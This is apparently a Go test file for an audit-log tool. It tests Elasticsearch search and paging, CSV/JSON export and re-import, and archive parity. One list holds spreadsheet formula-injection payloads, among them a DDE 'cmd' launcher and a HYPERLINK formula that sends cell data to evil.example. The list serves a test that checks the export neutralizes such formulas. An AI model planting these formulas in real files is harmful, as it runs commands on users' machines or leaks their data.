package auditctl

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/elastic/go-elasticsearch/v8"
	"github.com/elastic/go-elasticsearch/v8/esapi"
	"github.com/otelcol-audit/otelcol-audit/internal/fields"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/component/componenttest"
	"go.opentelemetry.io/collector/consumer"
	"go.opentelemetry.io/collector/pdata/pcommon"
	"go.opentelemetry.io/collector/pdata/plog"
	"go.opentelemetry.io/collector/receiver/receivertest"

	"github.com/otelcol-audit/otelcol-audit/internal/auditgen"
	"github.com/otelcol-audit/otelcol-audit/internal/auditquery"
	"github.com/otelcol-audit/otelcol-audit/internal/estest"
	"github.com/otelcol-audit/otelcol-audit/internal/storetest"
	"github.com/otelcol-audit/otelcol-audit/internal/testcollector"
	"github.com/otelcol-audit/otelcol-audit/receiver/auditreceiver"
)

// store is a test double filled through the real processor and exporter
// (storetest), with the Codatum and Wherobots catalogs.
type store struct {
	st     *storetest.Store
	es     *estest.Server
	client *elasticsearch.Client
	url    string
	next   consumer.Logs // processor -> exporter
}

func newStore(t *testing.T) *store { return newStoreArchive(t, "") }

func newStoreArchive(t *testing.T, archive string) *store {
	t.Helper()
	st := storetest.New(t, storetest.Options{Archive: archive, Catalogs: []string{"../../config/catalogs/codatum.yaml", "../../config/catalogs/wherobots.yaml"}})
	return &store{st: st, es: st.ES, client: st.Client, url: st.URL, next: st.Next}
}

// fill writes n realistic events, one second apart, newest last.
func (s *store) fill(t *testing.T, n int, seed uint64) { s.st.Fill(t, n, seed, 0, nil) }

// refresh makes what was written visible to search.
func (s *store) refresh(t *testing.T) { s.st.Refresh(t) }

// importCSV posts a CSV to an audit receiver feeding the store.
func importCSV(t *testing.T, s *store, csv []byte) {
	t.Helper()
	rf := auditreceiver.NewFactory()
	rcfg := rf.CreateDefaultConfig().(*auditreceiver.Config)
	rcfg.ServerConfig.NetAddr.Endpoint = fmt.Sprintf("127.0.0.1:%d", testcollector.FreePort(t))
	rcv, err := rf.CreateLogs(context.Background(), receivertest.NewNopSettings(rf.Type()), rcfg, s.next)
	require.NoError(t, err)
	require.NoError(t, rcv.Start(context.Background(), componenttest.NewNopHost()))
	defer rcv.Shutdown(context.Background())
	resp, err := http.Post("http://"+rcfg.ServerConfig.NetAddr.Endpoint+"/v1/import", "text/csv", bytes.NewReader(csv))
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, http.StatusAccepted, resp.StatusCode)
}

func TestSearchFiltersAndTable(t *testing.T) {
	s := newStore(t)
	s.fill(t, 2000, 1)
	count := func(q auditquery.Query) int {
		var out bytes.Buffer
		total, err := Search(context.Background(), SearchOptions{ES: s.client, Query: q, Size: 10, Page: 1, Output: JSON, Out: &out, TZ: time.UTC})
		require.NoError(t, err)
		assert.LessOrEqual(t, strings.Count(out.String(), "\n"), 10)
		return total
	}
	all := count(auditquery.Query{})
	assert.Equal(t, 2000, all)
	reports := count(auditquery.Query{Action: "report.view"})
	assert.Positive(t, reports)
	assert.Less(t, reports, all)
	assert.Equal(t, reports, count(auditquery.Query{Text: "REPORT.V"}), "free text is case-insensitive and partial over the action")
	assert.Positive(t, count(auditquery.Query{Text: "quarterly notebook"}), "and over the resource name")
	assert.Positive(t, count(auditquery.Query{Category: "view_data"}))
	assert.Positive(t, count(auditquery.Query{Outcome: "failure"}))
	assert.Positive(t, count(auditquery.Query{IP: "203.0.113.0/24"}))
	assert.Positive(t, count(auditquery.Query{ResourceType: "notebook"}))
	assert.Positive(t, count(auditquery.Query{User: "***@example.com"}))
	half := time.Date(2025, 11, 1, 0, 0, 0, 0, time.UTC).Add(1000 * time.Second)
	assert.Equal(t, 1000, count(auditquery.Query{From: half}))
	assert.Equal(t, 1001, count(auditquery.Query{To: half}))

	var out bytes.Buffer
	_, err := Search(context.Background(), SearchOptions{ES: s.client, Size: 3, Page: 1, Output: Table, Out: &out, TZ: time.UTC})
	require.NoError(t, err)
	lines := strings.Split(strings.TrimSpace(out.String()), "\n")
	require.Len(t, lines, 4)
	for _, col := range Columns {
		assert.Contains(t, lines[0], col)
	}
	assert.True(t, strings.HasPrefix(lines[0], "Time"))
	assert.Contains(t, lines[1], "2025-11-01 00:33:19 UTC", "newest first")
	assert.Contains(t, lines[1], "***@")
}

// Pages past Elasticsearch's 10 000-hit window come from search_after.
func TestDeepPages(t *testing.T) {
	s := newStore(t)
	s.fill(t, 10250, 2)
	var out bytes.Buffer
	total, err := Search(context.Background(), SearchOptions{ES: s.client, Size: 100, Page: 103, Output: JSON, Out: &out, TZ: time.UTC})
	require.NoError(t, err)
	assert.Equal(t, 10250, total)
	lines := strings.Split(strings.TrimSpace(out.String()), "\n")
	require.Equal(t, 50, len(lines), "page 103 of 100 holds the last 50")
	var first struct {
		Timestamp string `json:"@timestamp"`
	}
	require.NoError(t, json.Unmarshal([]byte(lines[0]), &first))
	want := time.Date(2025, 11, 1, 0, 0, 0, 0, time.UTC).Add((10250 - 1 - 10200) * time.Second)
	assert.Equal(t, want.Format("2006-01-02T15:04:05.000000000Z"), first.Timestamp)

	// Export pages past the window too, each event once, newest first.
	out.Reset()
	var progress [][2]int
	n, err := Export(context.Background(), ExportOptions{ES: s.client, Output: JSON, Out: &out, Progress: func(done, total int) {
		progress = append(progress, [2]int{done, total})
	}})
	require.NoError(t, err)
	assert.Equal(t, 10250, n)
	seen := map[string]bool{}
	for _, line := range strings.Split(strings.TrimSpace(out.String()), "\n") {
		var d struct {
			Event struct{ ID string } `json:"event"`
		}
		require.NoError(t, json.Unmarshal([]byte(line), &d))
		assert.False(t, seen[d.Event.ID], "event %s exported twice", d.Event.ID)
		seen[d.Event.ID] = true
	}
	assert.Equal(t, 10250, len(seen), "distinct events exported")
	require.NotEmpty(t, progress)
	assert.Equal(t, [2]int{10250, 10250}, progress[len(progress)-1], "the bar ends full")
}

// One event id at one time can sit in several indices (two tiers, or the
// quarantine). search_after on (@timestamp, event.id) alone would skip
// all but the first of them at a page boundary; pages under a point in
// time, ordered by _shard_doc, find every copy.
func TestPagesKeepEventsSharingIDAndTime(t *testing.T) {
	s := newStore(t)
	ld := auditgen.Batch(60, auditgen.Options{Seed: 11, UnknownFraction: 0.4, IDPrefix: "x"})
	recs := ld.ResourceLogs().At(0).ScopeLogs().At(0).LogRecords()
	at := pcommon.NewTimestampFromTime(time.Date(2025, 11, 3, 0, 0, 0, 0, time.UTC))
	for i := 0; i < recs.Len(); i++ {
		recs.At(i).SetTimestamp(at)
		recs.At(i).Attributes().PutStr(fields.EventID, "same-id")
	}
	require.NoError(t, s.next.ConsumeLogs(context.Background(), ld))
	s.refresh(t)
	resp, err := esapi.CountRequest{Index: []string{Index}}.Do(context.Background(), s.client)
	require.NoError(t, err)
	var c struct{ Count int }
	require.NoError(t, json.NewDecoder(resp.Body).Decode(&c))
	resp.Body.Close()
	require.GreaterOrEqual(t, c.Count, 2, "one copy per index: default, quarantine and the view_data tier")

	var out bytes.Buffer
	n, err := Export(context.Background(), ExportOptions{ES: s.client, Output: JSON, Out: &out, Batch: 1})
	require.NoError(t, err)
	assert.Equal(t, c.Count, n, "an export a page of one at a time finds every copy")
	for page := 1; page <= c.Count; page++ {
		out.Reset()
		_, err := Search(context.Background(), SearchOptions{ES: s.client, Size: 1, Page: page, Output: JSON, Out: &out, TZ: time.UTC})
		require.NoError(t, err)
		assert.Equal(t, 1, strings.Count(out.String(), "\n"), "page %d of %d", page, c.Count)
	}
}

func TestExportRoundTripThroughTheReceiver(t *testing.T) {
	a := newStore(t)
	a.fill(t, 3000, 3)
	var first bytes.Buffer
	n, err := Export(context.Background(), ExportOptions{ES: a.client, Output: CSV, Out: &first, Batch: 700})
	require.NoError(t, err)
	assert.Equal(t, 3000, n)

	// Import the export into a second store through the audit receiver.
	b := newStore(t)
	importCSV(t, b, first.Bytes())
	b.refresh(t)

	var second bytes.Buffer
	n, err = Export(context.Background(), ExportOptions{ES: b.client, Output: CSV, Out: &second, Batch: 1000})
	require.NoError(t, err)
	assert.Equal(t, 3000, n)
	if first.String() != second.String() {
		r1, _ := csv.NewReader(strings.NewReader(first.String())).ReadAll()
		r2, _ := csv.NewReader(strings.NewReader(second.String())).ReadAll()
		for i := range r1 {
			if i < len(r2) {
				require.Equal(t, r1[i], r2[i], "row %d", i)
			}
		}
	}
	assert.Equal(t, first.String(), second.String(), "export, import, export: identical")
}

// An export re-imported months later, after other months' events arrived,
// stores nothing twice: each event meets its own _id in the index of its
// own time (with data streams, rollover would have let every event in
// again, elastic/elasticsearch#44794).
func TestReimportMonthsLaterStoresNothingTwice(t *testing.T) {
	s := newStore(t)
	s.fill(t, 1500, 5)
	var export bytes.Buffer
	n, err := Export(context.Background(), ExportOptions{ES: s.client, Output: CSV, Out: &export})
	require.NoError(t, err)
	require.Equal(t, 1500, n)
	// Months pass; later events fill later indices.
	ld := auditgen.Batch(300, auditgen.Options{Seed: 99, IDPrefix: "later-"})
	recs := ld.ResourceLogs().At(0).ScopeLogs().At(0).LogRecords()
	for i := 0; i < recs.Len(); i++ {
		recs.At(i).SetTimestamp(pcommon.NewTimestampFromTime(time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC).Add(time.Duration(i) * time.Hour)))
	}
	require.NoError(t, s.next.ConsumeLogs(context.Background(), ld))
	importCSV(t, s, export.Bytes())
	s.refresh(t)
	total, err := Search(context.Background(), SearchOptions{ES: s.client, Size: 1, Page: 1, Output: JSON, Out: io.Discard, TZ: time.UTC})
	require.NoError(t, err)
	assert.Equal(t, 1800, total)
	assert.Zero(t, s.es.Stats().Duplicates)
	assert.Contains(t, s.es.Indices("logs-audit*"), "logs-audit-default-2025.11.01")
	assert.Contains(t, s.es.Indices("logs-audit*"), "logs-audit-default-2026.02.01", "November's indices and February's")
}

// Search and export read our indices only, not another dataset's that
// shares the prefix (Elastic's auditd integration writes logs-auditd.log-*).
func TestSearchLeavesOtherDatasetsOut(t *testing.T) {
	s := newStore(t)
	s.fill(t, 10, 6)
	resp, err := esapi.BulkRequest{Body: strings.NewReader(`{"create":{"_index":"logs-auditd.log-default"}}` + "\n" +
		`{"@timestamp":"2025-11-01T00:00:05Z","event":{"action":"report.view"},"user":{"email":"***@example.com"}}` + "\n"), Refresh: "true"}.Do(context.Background(), s.client)
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, []string{"logs-auditd.log-default"}, s.es.DataStreams()[len(s.es.DataStreams())-1:])
	s.refresh(t)
	total, err := Search(context.Background(), SearchOptions{ES: s.client, Size: 50, Page: 1, Output: JSON, Out: io.Discard, TZ: time.UTC})
	require.NoError(t, err)
	assert.Equal(t, 10, total)
	n, err := Export(context.Background(), ExportOptions{ES: s.client, Output: JSON, Out: io.Discard})
	require.NoError(t, err)
	assert.Equal(t, 10, n)
}

func TestSearchErrors(t *testing.T) {
	c, _ := elasticsearch.NewClient(elasticsearch.Config{Addresses: []string{"http://127.0.0.1:1"}})
	_, err := Search(context.Background(), SearchOptions{ES: c, Size: 10, Page: 1, Output: Table, Out: &bytes.Buffer{}, TZ: time.UTC})
	assert.ErrorContains(t, err, "cannot reach Elasticsearch")
	assert.ErrorContains(t, err, "set ELASTICSEARCH_URL or --es")
	_, err = Search(context.Background(), SearchOptions{ES: c, Size: 0, Page: 1})
	assert.ErrorContains(t, err, "--size 0")
	_, err = Export(context.Background(), ExportOptions{ES: c, Output: Table})
	assert.ErrorContains(t, err, "export writes csv or json")
}

// The archive answers exactly like Elasticsearch for the same query.
func TestArchiveAnswersLikeElasticsearch(t *testing.T) {
	dir := t.TempDir()
	s := newStoreArchive(t, filepath.Join(dir, "audit.jsonl"))
	s.fill(t, 2500, 4)
	ids := func(out []byte) []string {
		var got []string
		for _, line := range strings.Split(strings.TrimSpace(string(out)), "\n") {
			if line == "" {
				continue
			}
			var d struct {
				Event struct{ ID string } `json:"event"`
			}
			require.NoError(t, json.Unmarshal([]byte(line), &d))
			got = append(got, d.Event.ID)
		}
		return got
	}
	half := time.Date(2025, 11, 1, 0, 0, 0, 0, time.UTC).Add(1200 * time.Second)
	for name, q := range map[string]auditquery.Query{
		"all": {}, "text": {Text: "NoteBook"}, "action": {Action: "report.view"}, "category": {Category: "access_control"},
		"resource": {ResourceType: "file"}, "outcome": {Outcome: "failure"}, "ip": {IP: "2001:db8::/32"},
		"user": {User: "***@example.co.uk"}, "range": {From: half, To: half.Add(300 * time.Second)},
		"quarantined": {Quarantined: true},
	} {
		var fromES, fromArchive bytes.Buffer
		n1, err := Search(context.Background(), SearchOptions{ES: s.client, Query: q, Size: 200, Page: 2, Output: JSON, Out: &fromES, TZ: time.UTC})
		require.NoError(t, err, name)
		n2, err := SearchArchive(context.Background(), &Archive{Dir: dir}, q, 200, 2, JSON, time.UTC, &fromArchive)
		require.NoError(t, err, name)
		assert.Equal(t, n1, n2, name)
		assert.Positive(t, n1, name)
		assert.Equal(t, ids(fromES.Bytes()), ids(fromArchive.Bytes()), name)
	}
	var csvOut bytes.Buffer
	n, err := ExportArchive(context.Background(), &Archive{Dir: dir}, auditquery.Query{}, CSV, &csvOut)
	require.NoError(t, err)
	assert.Equal(t, 2500, n)
	_, err = SearchArchive(context.Background(), &Archive{Dir: t.TempDir()}, auditquery.Query{}, 10, 1, JSON, time.UTC, io.Discard)
	assert.ErrorContains(t, err, "no *.jsonl files")
}

// formulaValues begin with every character a spreadsheet runs, and with
// the quote that neutralizes them.
var formulaValues = []string{
	`=cmd|' /C calc'!A0`, `@SUM(1+1)`, `=HYPERLINK("http://evil.example/?x="&A1,"click")`, `+1+1`, `-2+3`,
	"\t=1+1", "\r=1+1", `'=1+1`, `''@x`, `'plain`, `'`,
}

// A sender's formula is inert in the export, and the export still
// re-imports without loss: export, import, export give the same file.
func TestExportNeutralizesFormulasAndRoundTrips(t *testing.T) {
	a := newStore(t)
	ld := plog.NewLogs()
	recs := ld.ResourceLogs().AppendEmpty().ScopeLogs().AppendEmpty().LogRecords()
	for i, v := range formulaValues {
		lr := recs.AppendEmpty()
		lr.SetTimestamp(pcommon.NewTimestampFromTime(time.Date(2025, 11, 2, 0, 0, i, 0, time.UTC)))
		lr.SetEventName("report.view")
		lr.Body().SetStr(v)
		attrs := lr.Attributes()
		attrs.PutStr(fields.EventID, fmt.Sprintf("%sid-%d", v, i))
		attrs.PutStr(fields.UserEmail, "jane@example.com")
		for _, k := range []string{fields.UserName, fields.UserID, fields.ResourceType, fields.ResourceID, fields.ResourceName, fields.UserAgent, fields.CloudRegion, fields.Organization} {
			attrs.PutStr(k, v)
		}
	}
	require.NoError(t, a.next.ConsumeLogs(context.Background(), ld))
	a.refresh(t)
	var first bytes.Buffer
	n, err := Export(context.Background(), ExportOptions{ES: a.client, Output: CSV, Out: &first})
	require.NoError(t, err)
	require.Equal(t, len(formulaValues), n)
	rows, err := csv.NewReader(bytes.NewReader(first.Bytes())).ReadAll()
	require.NoError(t, err)
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" {
				assert.NotContains(t, "=+-@\t\r", cell[:1], "cell %q in row %q", cell, row)
			}
		}
	}
	assert.Contains(t, first.String(), `'=cmd|' /C calc'!A0`)

	b := newStore(t)
	importCSV(t, b, first.Bytes())
	b.refresh(t)
	var second bytes.Buffer
	n, err = Export(context.Background(), ExportOptions{ES: b.client, Output: CSV, Out: &second})
	require.NoError(t, err)
	require.Equal(t, len(formulaValues), n)
	assert.Equal(t, first.String(), second.String(), "export, import, export: identical")
}

// Both backends check the query and the page the same way, with the same
// words: a search the archive refuses, Elasticsearch refuses too.
func TestBothBackendsValidateAlike(t *testing.T) {
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, "audit.jsonl"), archiveLine(t, batch(3, "v")), 0o600))
	s := newStore(t)
	for _, tt := range []struct {
		q          auditquery.Query
		size, page int
		want       string
	}{
		{auditquery.Query{Outcome: "denied"}, 10, 1, `--outcome "denied": use success, failure or unknown`},
		{auditquery.Query{Outcome: "Failure"}, 10, 1, `--outcome "Failure": use success, failure or unknown`},
		{auditquery.Query{Action: " "}, 10, 1, `--action " " is blank`},
		{auditquery.Query{}, 0, 1, "--size 0: use 1 to 10000"},
		{auditquery.Query{}, 10001, 1, "--size 10001: use 1 to 10000"},
		{auditquery.Query{}, 10, 0, "--page 0: pages start at 1"},
	} {
		requests := len(s.es.Requests())
		_, errES := Search(context.Background(), SearchOptions{ES: s.client, Query: tt.q, Size: tt.size, Page: tt.page, Output: JSON, Out: io.Discard, TZ: time.UTC})
		_, errArchive := SearchArchive(context.Background(), &Archive{Dir: dir}, tt.q, tt.size, tt.page, JSON, time.UTC, io.Discard)
		require.Error(t, errES, "%+v", tt)
		require.Error(t, errArchive, "%+v", tt)
		assert.Contains(t, errES.Error(), tt.want)
		assert.Equal(t, errES.Error(), errArchive.Error())
		if tt.size == 10 && tt.page == 1 {
			_, errES = Export(context.Background(), ExportOptions{ES: s.client, Query: tt.q, Output: JSON, Out: io.Discard})
			_, errArchive = ExportArchive(context.Background(), &Archive{Dir: dir}, tt.q, JSON, io.Discard)
			require.Error(t, errES, "%+v", tt)
			require.Error(t, errArchive, "%+v", tt)
			assert.Equal(t, errES.Error(), errArchive.Error())
		}
		assert.Equal(t, requests, len(s.es.Requests()), "refused before asking Elasticsearch: %+v", tt)
	}
}

// --quarantined finds the events the processor quarantined (unknown
// actions), and the table marks them.
func TestQuarantinedFilterAndMarker(t *testing.T) {
	s := newStore(t)
	s.fill(t, 1000, 9)
	var all, quarantined bytes.Buffer
	_, err := Search(context.Background(), SearchOptions{ES: s.client, Size: 1000, Page: 1, Output: Table, Out: &all, TZ: time.UTC})
	require.NoError(t, err)
	n, err := Search(context.Background(), SearchOptions{ES: s.client, Query: auditquery.Query{Quarantined: true}, Size: 1000, Page: 1, Output: Table, Out: &quarantined, TZ: time.UTC})
	require.NoError(t, err)
	assert.Positive(t, n)
	assert.Less(t, n, 1000)
	rows := strings.Split(strings.TrimSpace(quarantined.String()), "\n")[1:]
	assert.Len(t, rows, n)
	for _, row := range rows {
		assert.Contains(t, row, QuarantineMarker, row)
	}
	assert.Equal(t, n, strings.Count(all.String(), QuarantineMarker), "the full table marks the same rows, and only them")
}
